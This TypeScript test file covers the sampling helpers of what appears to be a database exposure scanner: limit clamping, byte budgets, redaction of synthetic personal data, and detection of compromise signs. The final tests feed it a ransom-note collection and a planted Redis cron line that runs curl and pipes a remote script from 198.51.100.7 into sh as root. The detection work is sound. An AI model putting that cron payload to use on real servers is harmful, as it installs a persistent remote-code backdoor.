import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { ProtocolError, ReadLimitError } from '../core/errors.js';
import { SAMPLE_HARD_CAPS } from '../assess/index.js';
import { clearValues, RANSOM_NOTE, syntheticPeople } from '../../test/helpers/synthetic-people.js';
import { MAX_SAMPLED_COLLECTIONS, redactSample, SampleBudget, sampleLimits, samplingError } from './sampling.js';

describe('shared sampling helpers', () => {
  it('a plan can only lower the hard caps; nonsense becomes the smallest bound', () => {
    assert.deepEqual(sampleLimits({ perCollection: 10, maxBytes: 5000, maxCollections: 3 }), { perCollection: 10, maxBytes: 5000, maxCollections: 3 });
    assert.deepEqual(sampleLimits({ perCollection: 1e9, maxBytes: 1e12, maxCollections: 1e6 }), {
      perCollection: SAMPLE_HARD_CAPS.maxDocuments,
      maxBytes: SAMPLE_HARD_CAPS.maxBytes,
      maxCollections: MAX_SAMPLED_COLLECTIONS,
    });
    assert.deepEqual(sampleLimits({ perCollection: 0, maxBytes: -5, maxCollections: Number.NaN }), { perCollection: 1, maxBytes: 1, maxCollections: 1 });
  });

  it('the budget counts bytes read and says when it is spent', () => {
    const b = new SampleBudget(100);
    b.spend(60);
    assert.equal(b.remaining, 40);
    assert.equal(b.exhausted, false);
    b.spend(50);
    assert.equal(b.remaining, 0);
    assert.equal(b.exhausted, true);
  });

  it('redactSample keeps counts, sanitised paths and masked examples only', () => {
    const people = syntheticPeople(4, 99);
    const { sample, truncated } = redactSample({ collections: [{ name: 'shop.people', documents: people }] }, sampleLimits({ perCollection: 3, maxBytes: 1e6, maxCollections: 1 }));
    assert.equal(sample.documents, 3);
    assert.deepEqual(truncated, ['documents']);
    const cats = sample.categories as Record<string, { count: number; detectors: string[]; fields: { path: string; count: number }[]; example: string }>;
    assert.deepEqual(Object.keys(cats).sort(), ['communication', 'email', 'location', 'national_id', 'phone', 'photo']);
    assert.deepEqual(cats.national_id, { count: 3, detectors: ['cn_resident_id'], fields: [{ path: 'shop.people.id_card', count: 3 }], example: cats.national_id!.example });
    const text = JSON.stringify(sample);
    for (const v of clearValues(people)) assert.ok(!text.includes(v), v);
  });

  it('sampling errors never carry a message that could quote data', () => {
    const secret = 'Unexpected token in JSON at "13812345678 person@example.org"';
    assert.equal(samplingError('people', new ProtocolError(secret)), 'Sampling people stopped: E_PROTOCOL');
    assert.equal(samplingError('people', new Error(secret)), 'Sampling people stopped: error');
    assert.match(samplingError('people', new ReadLimitError(1024)), /read cap of 1024 bytes/);
  });
});

describe('compromise signs in sampled values', () => {
  const limits = sampleLimits({ perCollection: 100, maxBytes: 1 << 20, maxCollections: 20 });

  it('reads a note only in a collection with a ransom-note name, and keeps masked evidence only', () => {
    const { sample } = redactSample(
      {
        collections: [
          { name: 'READ__ME_TO_RECOVER_YOUR_DATA.README', documents: [{ content: RANSOM_NOTE.text, btc: RANSOM_NOTE.bitcoin }] },
          { name: 'shop.chat', documents: [{ text: `send 0.1 BTC to ${RANSOM_NOTE.bitcoin} to recover your data` }] },
        ],
      },
      limits,
      100,
      'mongodb',
    );
    assert.ok(sample.compromise && sample.compromise.some((m) => m.strength === 'strong'), JSON.stringify(sample.compromise));
    assert.ok(!JSON.stringify(sample).includes(RANSOM_NOTE.bitcoin), 'the wallet address is masked');
  });

  it('does not read ordinary collections as notes', () => {
    const { sample } = redactSample(
      { collections: [{ name: 'shop.chat', documents: [{ text: `send 0.1 BTC to ${RANSOM_NOTE.bitcoin} to recover your data` }] }] },
      limits,
      100,
      'mongodb',
    );
    assert.equal(sample.compromise, undefined);
  });

  it('finds a planted cron payload among sampled Redis values', () => {
    const { sample } = redactSample({ records: [{ path: 'backup1', value: '\n\n*/2 * * * * root curl -fsSL http://198.51.100.7/x.sh | sh\n\n' }] }, limits, 100, 'redis');
    assert.ok(sample.compromise?.some((m) => m.strength === 'strong'), JSON.stringify(sample.compromise));
  });
});
